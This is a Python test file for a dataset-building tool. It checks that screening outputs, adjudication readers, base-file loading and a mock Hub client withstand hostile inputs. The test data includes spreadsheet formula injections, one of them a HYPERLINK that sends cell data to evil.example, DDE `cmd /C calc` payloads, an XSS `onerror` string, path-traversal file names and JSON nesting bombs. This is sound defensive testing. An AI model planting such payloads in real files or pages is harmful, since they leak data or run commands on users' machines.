"""Hostile inputs, round 3: the screening stage, the adjudication file, a user's GSM-IC base_file, the Hub
client and `build --out`.

- `screen`: model names that are Markdown or spreadsheet formulas, a FIFO, a device or an oversized
  judgments file, a nesting bomb in an answer;
- adjudication files and base_file lines that are nesting bombs or not UTF-8: one line naming file and line;
- the GSM-IC builder's sentence splitter is linear in the question's length;
- a Hub answer naming a file `../x` or `/abs`, or a release whose manifest.json is a nesting bomb;
- `build --out` inside a frozen release is refused before any work.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from hostile import REPO, built, error_lines, fingerprint, release, root, run  # noqa: F401

from ctxrobust.errors import CtxRobustError
from ctxrobust.evaluation.misleadqa import screening

BOMB = "[" * 100_000 + "]" * 100_000


# -- screen ----------------------------------------------------------------------------------------


class CandidatePool:
    """The part of a MisleadQA release `screen` reads: its candidates."""

    def __init__(self, folder: Path, ids: list[str]):
        self.path = folder
        self.rows = [
            {"id": i, "source": "fred" if n % 2 else "situatedqa", "scope_dimension": "time", "question": f"What was it in {i}?"}
            for n, i in enumerate(ids)
        ]
        (folder / screening.CANDIDATES).write_text("")

    def file_path(self, name: str) -> Path:
        return self.path / name

    def iter_rows(self, name: str):
        assert name == screening.CANDIDATES
        yield from self.rows


def answer(fail: set[str] = frozenset(), reason: str = "broken") -> str:
    return json.dumps(
        {n: {"judgment": "fail" if n in fail else "pass", "reason": reason if n in fail else "holds"} for n in screening.CRITERIA}
    )


@pytest.fixture
def pool(tmp_path) -> CandidatePool:
    folder = tmp_path / "release"
    folder.mkdir()
    return CandidatePool(folder, [f"c{k}" for k in range(4)])


def judgments(path: Path, model: str, lines: list[dict | str]) -> Path:
    path.write_text("".join((x if isinstance(x, str) else json.dumps({"model": model, "condition": "screen", **x})) + "\n" for x in lines))
    return path


HOSTILE_MODELS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "a | b <img src=x onerror=alert(1)>\n# heading",
]


def test_screen_outputs_escape_every_model_name(pool, tmp_path):
    paths = [
        judgments(
            tmp_path / f"m{k}.jsonl", model, [{"id": "c0", "response": answer({"4"}, reason="=1+1")}, {"id": "c1", "response": answer()}]
        )
        for k, model in enumerate(HOSTILE_MODELS)
    ]
    out = tmp_path / "flags.jsonl"
    summary = screening.main(pool, paths, out)
    assert summary["flagged"] == 1
    table = out.with_suffix(".table9.md").read_text()
    lines = table.splitlines()
    assert not any(line.startswith("#") for line in lines) and "<img" not in table
    rows = [line for line in lines if line.startswith("|")]
    header = rows[0]
    # one cell per column: no model name adds a cell break
    assert header.replace("\\|", "").count("|") == len(HOSTILE_MODELS) + 4
    assert all(row.replace("\\|", "").count("|") == len(HOSTILE_MODELS) + 4 for row in rows)
    with open(out.with_suffix(".csv"), newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    # the JSON sheet keeps the names as given
    sheet = [json.loads(line) for line in out.read_text().splitlines()]
    assert set(sheet[0]["flags"]) == set(HOSTILE_MODELS)


@pytest.mark.parametrize("name", screening.TABLE_COLUMNS)
def test_a_model_named_like_a_table_column_is_refused(pool, tmp_path, name):
    path = judgments(tmp_path / "m.jsonl", name, [{"id": "c0", "response": answer()}])
    with pytest.raises(CtxRobustError, match=f"model {name!r} is the name of a Table 9 column"):
        screening.main(pool, [path], tmp_path / "flags.jsonl")


def test_a_fifo_of_judgments_is_refused_without_waiting(pool, tmp_path):
    fifo = tmp_path / "judgments.jsonl"
    os.mkfifo(fifo)
    found: dict = {}

    def screen():
        try:
            screening.main(pool, [fifo], tmp_path / "flags.jsonl")
        except CtxRobustError as exc:
            found["error"] = str(exc)

    worker = threading.Thread(target=screen, daemon=True)
    worker.start()
    worker.join(10)
    if worker.is_alive():  # let the blocked reader go before failing
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(10)
        pytest.fail("screen waited on a FIFO")
    assert found["error"].startswith(f"{fifo}: is not a regular file (a FIFO, device or standard input cannot be read as judgments)")


def test_a_device_of_judgments_is_refused_in_bounded_memory(tmp_path):
    """/dev/zero would be read until memory runs out: the child has 1 GB of address space at most."""
    script = f"""
import resource, sys
sys.path.insert(0, {str(REPO / "tests" / "core")!r}); sys.path.insert(0, {str(REPO / "tests")!r})
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from pathlib import Path
from test_hostile_round3 import CandidatePool
from ctxrobust.errors import CtxRobustError
from ctxrobust.evaluation.misleadqa import screening
folder = Path({str(tmp_path)!r})
try:
    screening.main(CandidatePool(folder, ["c0"]), [Path("/dev/zero")], folder / "flags.jsonl")
except CtxRobustError as exc:
    print(exc)
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.startswith("/dev/zero: is not a regular file")


def test_an_oversized_judgments_file_is_refused_before_it_is_read(pool, tmp_path, monkeypatch):
    path = judgments(tmp_path / "m.jsonl", "m", [{"id": "c0", "response": answer()}] * 20)
    monkeypatch.setattr(screening, "MAX_FILE_BYTES", 1000)
    with pytest.raises(CtxRobustError, match=r"m\.jsonl: \d+ bytes, more than the 1000 a judgments file may hold"):
        screening.main(pool, [path], tmp_path / "flags.jsonl")


def test_nesting_bombs_and_bad_lines_in_judgments_are_one_problem_each(pool, tmp_path, monkeypatch):
    monkeypatch.setattr(screening, "MAX_LINE_BYTES", 300_000)
    path = judgments(
        tmp_path / "m.jsonl",
        "m",
        [
            {"id": "c0", "response": BOMB},  # the answer
            BOMB,  # the line itself
            {"id": "c1", "response": "```json\n" + BOMB + "\n```"},
            {"id": "c2", "response": "x" * 400_000},  # a line over the bound
            {"id": "c3", "response": answer({"2"})},
        ],
    )
    with open(path, "ab") as handle:
        handle.write(b'{"model": "m", "id": "c9", "response": "\xff"}\n')
    summary = screening.main(pool, [path], tmp_path / "flags.jsonl")
    problems = summary["problems"]
    assert problems == [
        f"{path}:1: c0: the answer is not JSON (JSON nested more than 200 levels deep)",
        f"{path}:2: not JSON (JSON nested more than 200 levels deep)",
        f"{path}:3: c1: the answer is not JSON (JSON nested more than 200 levels deep)",
        f"{path}:4: longer than 300000 bytes; one judgment a line, six short reasons",
        f"{path}:6: not UTF-8; write the judgments as UTF-8 JSON Lines",
    ]
    assert summary["flagged"] == 1 and summary["unparseable"] == 2  # the rest is still judged


# -- the Hub ---------------------------------------------------------------------------------------

HUB_TOKEN = "hf_test_token_round3_0123456789"


@pytest.fixture
def hub(monkeypatch, tmp_path):
    import huggingface_hub.constants
    from hub_server import HubServer

    with HubServer(HUB_TOKEN) as server:
        monkeypatch.setenv("HF_ENDPOINT", server.url)
        monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
        monkeypatch.setenv("CTXROBUST_CACHE", str(tmp_path / "cache" / "inner"))
        monkeypatch.setenv("HF_HOME", str(tmp_path / "hf-home"))
        monkeypatch.setattr(huggingface_hub.constants, "ENDPOINT", server.url)
        monkeypatch.setattr(
            huggingface_hub.constants, "HUGGINGFACE_CO_URL_TEMPLATE", server.url + "/{repo_id}/resolve/{revision}/{filename}"
        )
        yield server


@pytest.fixture
def published(hub, built, capsys):
    """A release pushed to the stand-in Hub as my-org/pw at v1.0.0; the repository's state."""
    from ctxrobust.publish.hub import push_release

    assert push_release(built, "my-org/pw", None) == 0
    capsys.readouterr()
    return hub.hub.repo("dataset", "my-org/pw")


def tag_with(repo, tag: str, change) -> None:
    """A new commit on main whose files are the last ones changed by `change`, tagged `tag`."""
    head = repo.commits[repo.branches["main"]]
    files = dict(head.files)
    change(files)
    commit = repo.add_commit(head.oid, f"edit for {tag}", "", files)
    repo.branches["main"] = commit.oid
    repo.tags[tag] = commit.oid


def cli(capsys, *args: str) -> tuple[int, str, str]:
    from ctxrobust.cli import main

    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize("name", ["../x", "/abs/x", "a/../../x", "a\\..\\x"])
def test_a_hub_file_named_outside_the_release_is_one_line_and_the_rest_downloads(published, tmp_path, capsys, name):
    tag_with(published, "v9.0.0", lambda files: files.update({name: b"planted\n"}))
    code, out, err = cli(capsys, "validate", "hf://datasets/my-org/pw@v9.0.0")
    assert "internal error" not in err and "Traceback" not in err
    [line] = [line for line in err.splitlines() if line.startswith(("warning:", "error:"))]
    assert line.startswith(f"warning: hf://datasets/my-org/pw@v9.0.0: file name {name!r} ") and line.endswith(
        "; not downloaded, the other files are"
    )
    assert code == 0 and "pseudowords 1.0.0" in out  # the release's own files are downloaded and validated
    assert not (tmp_path / "x").exists() and not Path("/abs/x").exists() and not (tmp_path / "cache" / "x").exists()


def test_pushing_over_a_main_that_holds_a_file_named_outside_is_one_line(published, built, tmp_path, capsys):
    from ctxrobust.publish.hub import push_release

    tag_with(published, "v0.9.0", lambda files: files.update({"../x": b"planted\n"}))
    published.tags.pop("v1.0.0")
    with pytest.raises(CtxRobustError) as caught:
        push_release(built, "my-org/pw", None)
    message = str(caught.value)
    assert "main holds a file the Hub client cannot delete (file name '../x' leads outside the release folder" in message
    assert message.endswith("remove or rename it on the Hub, then push again") and "\n" not in message


def test_a_hub_release_whose_manifest_is_a_nesting_bomb_is_one_line(published, capsys):
    import hashlib

    def bomb(files):
        files["manifest.json"] = BOMB.encode()
        sums = files["SHA256SUMS"].decode().splitlines()
        files["SHA256SUMS"] = "".join(
            (f"{hashlib.sha256(files['manifest.json']).hexdigest()}  manifest.json" if line.endswith("  manifest.json") else line) + "\n"
            for line in sums
        ).encode()

    tag_with(published, "v9.0.1", bomb)
    code, _, err = cli(capsys, "validate", "hf://datasets/my-org/pw@v9.0.1")
    assert code in (1, 2) and "internal error" not in err and "RecursionError" not in err
    code, _, err = cli(capsys, "validate", "hf://datasets/my-org/pw@v1.0.0")  # the intact release still validates
    assert code == 0, err


# -- adjudication and base_file --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.jsonl", BOMB.encode() + b"\n", r"a\.jsonl:1: not JSON \(JSON nested more than 200 levels deep\)"),
        (
            "a.jsonl",
            b'{"id": "x", "decision": "retain", "reason": "ok", "reviewer": "me"}\n{"id": "y", "reason": "\xff\xfe"}\n',
            r"a\.jsonl:2: not UTF-8 \(byte 0xff\)",
        ),
        ("a.csv", b"id,decision,criterion,reason,reviewer\nx,retain,,\xe9t\xe9,me\n", r"a\.csv:2: not UTF-8 \(byte 0xe9\)"),
        (
            "a.csv",
            b"id,item_sha256,decision,criterion,reason,reviewer\nx," + b"a" * 64 + b',retain,,"' + b"y" * 200_000 + b'",me\n',
            r"a\.csv:\d+: not a CSV row",
        ),
    ],
)
def test_a_bad_adjudication_file_is_one_line_naming_file_and_line(tmp_path, name, content, message):
    from ctxrobust.builders.misleadqa import adjudication

    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CtxRobustError, match=message) as caught:
        adjudication.read(path)
    assert "\n" not in str(caught.value)


def test_an_adjudication_fifo_or_device_is_refused_without_waiting(tmp_path):
    from ctxrobust.builders.misleadqa import adjudication

    fifo = tmp_path / "a.jsonl"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(CtxRobustError, match="is not a regular file"):
            adjudication.read(path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (BOMB.encode() + b"\n", "base.jsonl:1: not valid JSON (JSON nested more than 200 levels deep); fix or remove the line"),
        (b'{"question": "\xff", "answer": "#### 1"}\n', "base.jsonl:1: not UTF-8; convert the file to UTF-8"),
    ],
)
def test_a_bad_base_file_line_is_one_line(tmp_path, content, message):
    path = tmp_path / "base.jsonl"
    path.write_bytes(content)
    result = run("build", "gsm-ic", "--version", "1.0.0", "--set", f"base_file={path}", "--out", str(tmp_path / "out"))
    assert result.returncode == 2 and "internal error" not in result.stderr
    assert error_lines(result.stderr) == [f"error: {tmp_path}/{message}"]
    assert not (tmp_path / "out").exists()


def test_the_sentence_splitter_is_linear_in_the_question(tmp_path):
    """A 360 KB question took minutes (each sentence end searched the whole text before it)."""
    from ctxrobust.builders.gsm_ic.insertion import question_sentence_start, sentence_starts

    sentence = "Mr. Lee likes the color blue very much. "
    timings = {}
    for copies in (1_000, 4_000):
        text = "Marisol has 14 pencils. " + sentence * copies + "How many pencils does she have now?"
        started = time.perf_counter()
        starts = sentence_starts(text)
        assert question_sentence_start(text) == starts[-1]
        timings[copies] = time.perf_counter() - started
        assert len(starts) == copies + 2  # "Mr." is no sentence end
    assert timings[4_000] < 2 and timings[4_000] < 20 * max(timings[1_000], 0.01)


def test_a_long_base_file_question_builds_in_linear_time(tmp_path):
    question = (
        "Marisol has 14 pencils. "
        + "She likes the color blue very much. " * 3_000
        + "She buys 3 packs of 6 pencils. How many pencils does Marisol have now?"
    )
    lines = [
        {
            "question": question,
            "answer": "The packs hold 3 * 6 = <<3*6=18>>18 pencils.\nMarisol has 14 + 18 = <<14+18=32>>32 pencils.\n#### 32",
            "topic": "school",
        },
        {
            "question": "Dmitri runs 5 kilometers every morning and 3 kilometers every evening. How many kilometers does Dmitri run in 7 days?",
            "answer": "Each day he runs 5 + 3 = <<5+3=8>>8 kilometers.\nIn 7 days he runs 8 * 7 = <<8*7=56>>56 kilometers.\n#### 56",
            "topic": "sports",
        },
    ]
    path = tmp_path / "long.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    args = ["build", "gsm-ic", "--version", "1.0.0", "--set", f"base_file={path}", "--set", "n_variants=160", "--set", "eval_size=20"]
    result = run(*args, "--out", str(tmp_path / "out"), timeout=60)
    assert result.returncode == 0, result.stderr


# -- build --out -----------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["itself", "inside", "link"])
def test_build_out_inside_a_frozen_release_is_refused_before_any_work(release, tmp_path, where):
    out = {"itself": release, "inside": release / "sub" / "releases", "link": tmp_path / "link"}[where]
    if where == "link":
        out.symlink_to(release)
    before = fingerprint(release)
    result = run("build", "pseudowords", "--version", "2.0.0", "--out", str(out))
    assert result.returncode == 2
    assert error_lines(result.stderr) == [
        f"error: --out {out}: is inside the release folder {release.resolve() if where == 'link' else release}, which is frozen; "
        "give a releases folder outside it (e.g. releases)"
    ]
    assert fingerprint(release) == before


def deep_answers_hub(token: str):
    """The stand-in Hub, except that its refs and repository-info answers are nesting bombs."""
    from http.server import ThreadingHTTPServer

    from hub_server import Hub, HubServer, _Handler

    class Handler(_Handler):
        def _refs(self, repo):
            self._send(200, BOMB.encode())

        def _repo_info(self, repo, revision):
            self._send(200, BOMB.encode())

    class Server(HubServer):
        def __init__(self, token: str):
            ThreadingHTTPServer.__init__(self, ("127.0.0.1", 0), Handler)
            self.hub = Hub(token)
            self.url = f"http://127.0.0.1:{self.server_address[1]}"
            self._thread = None

    return Server(token)


def test_hub_answers_that_are_nesting_bombs_are_one_line(built, tmp_path, monkeypatch, capsys):
    import huggingface_hub.constants

    from ctxrobust.publish.hub import push_release

    with deep_answers_hub(HUB_TOKEN) as server:
        monkeypatch.setenv("HF_ENDPOINT", server.url)
        monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
        monkeypatch.setenv("CTXROBUST_CACHE", str(tmp_path / "cache"))
        monkeypatch.setattr(huggingface_hub.constants, "ENDPOINT", server.url)
        with pytest.raises(CtxRobustError, match="the Hub's answer could not be read \\(RecursionError"):
            push_release(built, "my-org/pw", None)
        code, _, err = cli(capsys, "validate", "hf://datasets/my-org/pw@v1.0.0")
        assert code == 2 and "internal error" not in err
        assert error_lines(err)[0].startswith("error: hf://datasets/my-org/pw@v1.0.0: the Hub's answer could not be read (RecursionError")
